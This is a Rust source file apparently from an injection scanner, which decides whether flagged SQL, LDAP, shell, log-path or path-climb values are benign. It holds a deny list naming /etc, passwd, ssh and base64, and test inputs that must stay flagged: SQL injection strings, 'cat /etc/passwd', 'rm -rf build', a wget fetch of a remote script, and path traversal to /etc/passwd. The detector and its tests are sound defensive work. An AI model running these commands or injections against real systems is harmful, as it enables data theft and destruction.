//! Whether a value is a whole statement of SQL, a whole filter of a directory or the path of a log, which is what their
//! tools are given.

use super::super::Finding;

/// The words that a statement begins with.
const STATEMENTS: &[&str] = &[
    "alter", "create", "delete", "desc", "describe", "explain", "insert", "pragma", "select", "show",
    "update", "with",
];
/// Programs that are given one.
const CLIENTS: &[&str] = &["duckdb", "mariadb", "mysql", "psql", "sqlite3"];
/// Programs that such a one is run in.
const AROUND: &[&str] = &["docker", "kubectl", "podman"];
/// What a statement may say of its own database.
const ORDINARY: &[&str] = &[
    "code.sql-breakout",
    "code.sql-comment",
    "code.sql-call",
    "code.sql-functions",
    "code.sql-operator",
    "code.sql-order",
    "code.sql-schema",
    "code.sql-select",
    "code.sql-tail",
    "code.sql-tautology",
];
/// Programs that are run one after the other all day, and what their output goes through.
const PROGRAMS: &[&str] = &[
    "apt", "apt-get", "awk", "brew", "bundle", "cargo", "cd", "cmake", "composer", "cp", "cut", "docker",
    "du", "echo", "export", "find", "git", "go", "grep", "gunzip", "gzip", "head", "jq", "kubectl", "ls",
    "make", "mkdir", "npm", "npx", "pip", "pip3", "pnpm", "poetry", "printf", "ps", "rg", "sed", "sleep",
    "sort", "tail", "tar", "touch", "tr", "uniq", "unzip", "wc", "yarn", "zcat", "zip",
];
/// What such a program does not do all day.
const DEEDS: &[&str] = &[
    "-delete",
    "-exec",
    "-i",
    "/dev/",
    "/etc",
    "/proc",
    "/root",
    "0.0.0.0",
    "authorized",
    "base64",
    "history",
    "http",
    "passwd",
    "ssh",
    "system(",
];
/// So much of a value is read.
const LONGEST: usize = 4096;

/// Whether a finding is ordinary in what the value is.
pub(super) fn explains(text: &str, one: &Finding) -> bool {
    text.len() <= LONGEST
        && match one.rule {
            "code.ldap" => is_filter(text),
            "code.path-log" => is_log(text),
            "code.path-climb" if leads_to_a_document(text, one) => true,
            "code.path-climb" | "code.path-climb-file" | "code.path-file" => is_question(text),
            "code.shell-command" => is_chain(text) || is_remark(text, one),
            "code.sql-breakout" => is_chain(text) || is_statement(text),
            "code.sql-stacked" => is_script(text) || is_in_a_literal(text, one) && is_statement(text),
            "code.sql-tautology" if is_comparison(text) => true,
            "code.sql-word" => is_statement(text) && begins(text, one, "or "),
            "code.xss-script" => is_block_of_data(text),
            // Who may log in is more than how a database is built.
            "code.sql-schema" => is_statement(text) && !names_people(text, one),
            rule if ORDINARY.contains(&rule) => is_statement(text) || is_formula(text),
            _ => false,
        }
}

/// One statement from its first word on, with every quote and bracket closed.
fn is_statement(text: &str) -> bool {
    let bare = text.trim();
    let first = bare.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').next().unwrap_or_default();
    let word = first.to_ascii_lowercase();
    let runs = || bare.split_whitespace().take(8).any(|word| CLIENTS.contains(&word));
    let client = CLIENTS.contains(&word.as_str()) || AROUND.contains(&word.as_str()) && runs();
    if !client && !STATEMENTS.contains(&word.as_str()) || !bare[first.len()..].starts_with([' ', '\n', '\t'])
    {
        return false;
    }
    let bare = if client { Some(bare.to_owned()) } else { without_literals(bare) };
    let Some(bare) = bare.as_deref().map(|bare| if client { bare } else { without_remark(bare) }) else {
        return false;
    };
    let count = |sign: char| bare.matches(sign).count();
    let marks = ["/*", "--", "#", "@@", "0x", "`", "||"];
    // What joins texts is no `or` between them.
    let joined = bare.contains("''") && bare.split("||").all(|part| !part.trim().is_empty());
    let marks = if client { &marks[2..] } else { &marks[..marks.len() - usize::from(joined)] };
    bare.find(';').is_none_or(|at| at + 1 == bare.len())
        && count('\'') % 2 == 0
        && count('"') % 2 == 0
        && count('(') == count(')')
        && !marks.iter().any(|mark| bare.contains(mark))
}

/// `=IF(A1="x",1,0)`: one formula of a spreadsheet, with every quote and bracket closed.
fn is_formula(text: &str) -> bool {
    let formula = text.trim();
    let Some(name) = formula.strip_prefix('=').and_then(|call| call.split_once('(')).map(|(name, _)| name)
    else {
        return false;
    };
    let count = |sign: char| formula.matches(sign).count();
    let mut runs = formula.split(|c: char| !c.is_ascii_alphanumeric());
    let cell = |run: &str| {
        let letters = run.bytes().take_while(u8::is_ascii_uppercase).count();
        (1..=3).contains(&letters)
            && run.len() > letters
            && run.bytes().skip(letters).all(|byte| byte.is_ascii_digit())
    };
    !name.is_empty()
        && name.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'.')
        && formula.ends_with(')')
        && count('(') == count(')')
        && count('"') % 2 == 0
        && runs.any(cell)
        && !formula.contains('\'')
        && !["--", "/*", "@@", "0x"].iter().any(|mark| formula.contains(mark))
}

/// A statement with nothing between its single quotes, if all of them are closed; a quote twice is one of the literal.
fn without_literals(statement: &str) -> Option<String> {
    let mut kept = String::with_capacity(statement.len());
    let mut signs = statement.chars().peekable();
    let mut inside = false;
    while let Some(sign) = signs.next() {
        match sign {
            '\\' if inside => return None,
            '\'' if inside && signs.next_if_eq(&'\'').is_some() => {}
            '\'' => {
                inside = !inside;
                kept.push(sign);
            }
            _ if inside => {}
            _ => kept.push(sign),
        }
    }
    (!inside).then_some(kept)
}

/// A statement without the words of a remark behind it; what could be more of the statement stays.
fn without_remark(statement: &str) -> &str {
    let Some((whole, remark)) = statement.split_once(" -- ") else { return statement };
    let words = remark.split_whitespace().count();
    let plain = |c: char| c.is_ascii_alphanumeric() || " .,-_:?!".contains(c);
    if words >= 2 && remark.chars().all(plain) { whole.trim_end() } else { statement }
}

/// Whether a finding begins within a literal of the statement.
fn is_in_a_literal(text: &str, one: &Finding) -> bool {
    let before = text.get(..one.span.end).unwrap_or_default();
    before.matches('\'').count() % 2 == 1
}

/// Numbers that are compared, and nothing else: `5 < 6 && 7 > 3`.
fn is_comparison(text: &str) -> bool {
    let plain = |c: char| c.is_ascii_digit() || " .<>&|".contains(c);
    let sides = |part: &str| part.split(['<', '>']).filter(|side| !side.trim().is_empty()).count() == 2;
    text.chars().all(plain) && text.split(['&', '|']).filter(|part| !part.is_empty()).all(sides)
}

/// `dayjs().set('month', 3) // get & set`: the last words of a remark in a program.
fn is_remark(text: &str, one: &Finding) -> bool {
    let Some((code, remark)) = text.get(..one.span.start).and_then(|before| before.rsplit_once(" // "))
    else {
        return false;
    };
    let rest = text.get(one.span.start..).unwrap_or_default();
    let words = |part: &str| part.bytes().all(|byte| byte.is_ascii_alphabetic() || b" ,.&".contains(&byte));
    code.trim_end().ends_with([')', ';', ',', '}', ']'])
        && words(remark)
        && words(rest)
        && !rest.contains("&&")
}

/// `../../../docs/guide.md`: a path that climbs to a page or a source file by its own name, and through no folder that
/// the system keeps to itself.
fn leads_to_a_document(text: &str, one: &Finding) -> bool {
    const ENDINGS: &[&str] = &[
        "c", "cjs", "cpp", "cs", "css", "cts", "go", "h", "html", "java", "jpeg", "jpg", "js", "jsx", "kt",
        "md", "mdx", "mjs", "mts", "png", "py", "pyi", "rb", "rs", "rst", "scss", "svelte", "svg", "swift",
        "ts", "tsx", "vue",
    ];
    const KEPT: &[&str] =
        &["boot", "dev", "etc", "proc", "root", "sys", "var", "windows", "winnt", "web-inf"];
    let path = text.get(one.span.start..).unwrap_or_default();
    let plain = |c: char| c.is_ascii_alphanumeric() || "._-/@".contains(c);
    let path = path.split(|c: char| !plain(c)).next().unwrap_or_default();
    let down = path.trim_start_matches(['.', '/']);
    let named = |part: &str| !part.is_empty() && !part.starts_with('.') && !KEPT.contains(&part);
    let climbs = &path[..path.len() - down.len()];
    climbs.split('/').all(|step| step.is_empty() || step == "..")
        && !climbs.contains("//")
        && down.split('/').all(named)
        && down.rsplit_once('.').is_some_and(|(_, ending)| ENDINGS.contains(&ending))
}

fn begins(text: &str, one: &Finding, word: &str) -> bool {
    let head = text.get(one.span.start..one.span.start + word.len());
    head.is_some_and(|head| head.eq_ignore_ascii_case(word))
}

fn names_people(text: &str, one: &Finding) -> bool {
    let name = text.get(one.span.clone()).unwrap_or_default().to_ascii_lowercase();
    name.contains("user") && !name.contains("user_tables") || name.contains("shadow")
}

/// Programs of a developer, one after the other or each with what the one before it says, from the first word on.
fn is_chain(text: &str) -> bool {
    let program = |part: &str| {
        let mut words = part.split_whitespace();
        let name = words.next().unwrap_or_default();
        PROGRAMS.contains(&name) && words.next().is_some()
    };
    let plain = !text.contains(['`', '\n', '<', '>', '\\']) && !text.contains("$(") && !text.contains("${");
    let parts = text.replace("&&", "\0").replace("||", "\0");
    plain && !DEEDS.iter().any(|deed| text.contains(deed)) && parts.split(['\0', '|', ';']).all(program)
}

/// Statements one after the other, from the first word on, none of which takes anything away or gives rights.
fn is_script(text: &str) -> bool {
    const STEPS: &[&str] = &[
        "alter", "begin", "commit", "create", "end", "insert", "rollback", "select", "set", "update", "with",
    ];
    let first = |part: &str| part.split_whitespace().next().unwrap_or_default().to_ascii_lowercase();
    let lower = text.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let Some(bare) = without_literals(&lower) else { return false };
    let mut parts = bare.trim().trim_end_matches(';').split(';');
    // Between these two nothing follows a value: whoever writes them writes all of it.
    let whole = first(&bare).trim_end_matches(';') == "begin"
        && parts.clone().next_back().is_some_and(|last| ["commit", "end", "rollback"].contains(&last.trim()));
    !has(&["drop ", "grant ", "login", "password", "role"])
        && (whole || !has(&["user"]))
        && !["/*", "--", "@@", "0x"].iter().any(|mark| bare.contains(mark))
        && parts.all(|part| STEPS.contains(&first(part).as_str()))
}

/// What a page says of itself to a search engine, which no browser runs.
fn is_block_of_data(text: &str) -> bool {
    let types = ["application/ld+json", "application/json"];
    let opens = |kind: &&str| text.trim_start().starts_with(&format!("<script type=\"{kind}\">"));
    types.iter().any(opens) && text.matches('<').count() == 2
}

/// One filter, whose first bracket is closed by its last.
fn is_filter(text: &str) -> bool {
    let bare = text.trim();
    let mut depth = 0_usize;
    for (at, byte) in bare.bytes().enumerate() {
        match byte {
            b'(' => depth += 1,
            b')' => depth = depth.saturating_sub(1),
            0 | b'\'' | b'"' | b'%' => return false,
            _ => {}
        }
        if depth == 0 && at + 1 < bare.len() {
            return false;
        }
    }
    bare.starts_with('(') && depth == 0 && bare.contains('=')
}

/// The path of a log where the system keeps them, and nothing else.
fn is_log(text: &str) -> bool {
    let name = text.trim().strip_prefix("/var/log/").and_then(|rest| rest.strip_suffix(".log"));
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'-' | b'.');
    name.is_some_and(|name| name.bytes().all(plain) && !name.contains(".."))
}

/// A question in words: a path in it is what it is about.
fn is_question(text: &str) -> bool {
    const ASKS: &[&str] = &["can", "does", "how", "is", "what", "when", "which", "who", "why"];
    let mut words = text.split(' ');
    let first = words.next().unwrap_or_default().to_ascii_lowercase();
    ASKS.contains(&first.as_str())
        && text.trim_end().ends_with('?')
        && words.take(3).filter(|word| word.bytes().all(|byte| byte.is_ascii_alphabetic())).count() == 3
}

#[cfg(test)]
mod tests {
    use super::super::super::probe::Probe;
    use super::super::super::{Kind, Kinds, Place};

    const CODE: Probe = Probe(Place::Argument, Kinds::NONE.with(Kind::CodeInjection));

    #[test]
    fn whole_statements_and_filters_break_out_of_nothing() {
        let mut wrong = Vec::new();
        for text in [
            "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'",
            "WITH a AS (SELECT id FROM b) SELECT max(id) FROM a;",
            "(&(objectClass=device)(|(cn=printer)(cn=scanner)))",
            "psql -d app -c \"select (select 1)\"",
            "map(select(.age > 3)) | length",
            "git pull && tar czf all.tgz docs",
            "/var/log/nginx/access.log",
            "ps aux | grep java | awk '{print $2}' | sort -n",
            "ALTER TABLE bills ADD COLUMN paid_at date; UPDATE bills SET paid_at = sent_at WHERE state = 'paid';",
            "BEGIN; INSERT INTO bills (id) VALUES (7); COMMIT;",
            "<script type=\"application/ld+json\">{\"@type\": \"Recipe\"}</script>",
            "$page = simplexml_load_file('news.xml');",
            "Why do some logs hold paths such as ../../etc/passwd?",
            "SELECT id FROM users WHERE (name = 'Bob O''Neil' OR name IS NULL) -- the two of the ticket",
            "SELECT 'a' || ';' || 'b'",
            "INSERT INTO orders (note) VALUES ('It''s 5 o''clock; drop table by the door')",
            "BEGIN; UPDATE users SET country='US' WHERE id=1; COMMIT;",
            "5 < 6 && 7 > 3",
            "docker exec -it db psql -U app -c 'select 1'",
            "dayjs().set('month', 3).month() // get & set",
            "The rest lives in [`docs/MIGRATION.md`](../../../../docs/MIGRATION.md) at the root.",
            "import { Task } from '../../../../types.js'",
        ] {
            if !CODE.found(text).is_empty() {
                wrong.push((text, CODE.found(text)));
            }
        }
        for text in [
            "x' AND 1=(SELECT count(*) FROM information_schema.tables)",
            "7; SELECT name FROM sqlite_master",
            "SELECT 1; SELECT name FROM sqlite_master; DROP TABLE a",
            "(cn=a)(|(cn=*))",
            "SELECT name FROM sysusers",
            "a.tgz && tar xf b.tgz",
            "git pull && whoami",
            "ls | id",
            "ls notes; rm -r src",
            "find . -name '*.tmp' -delete && ls",
            "ls notes | awk 'BEGIN{system(1)}'",
            "find . -name a; cat /etc/hosts",
            "a.txt; rm -rf build",
            "7; UPDATE bills SET paid = 1",
            "UPDATE bills SET paid = 1; DROP TABLE bills",
            "SELECT 1; CREATE USER eve",
            "SELECT name FROM a WHERE b = '' OR 1=1 -- '",
            "SELECT name FROM a WHERE b = 'x'; drop table a; --",
            "BEGIN; UPDATE a SET b = 1; DROP TABLE users; COMMIT;",
            "1 < 2 && 3 = 3",
            "docker exec db psql -c 'select 1'; cat /etc/passwd",
            "set('a') // & cat /etc/passwd",
            "../../../../etc/passwd.md",
            "../../../../home/.ssh/a.md",
            "<script type=\"application/ld+json\">{}</script><script>a()</script>",
            "git pull && wget http://a.example/b.sh",
            "cd a && sudo make",
            "../../etc/passwd?",
            "/var/log/../log/nginx/access.log",
            "/opt/lampp/logs/access_log",
        ] {
            if !CODE.flags(text) {
                wrong.push((text, Vec::new()));
            }
        }
        assert_eq!(wrong, Vec::new());
    }
}
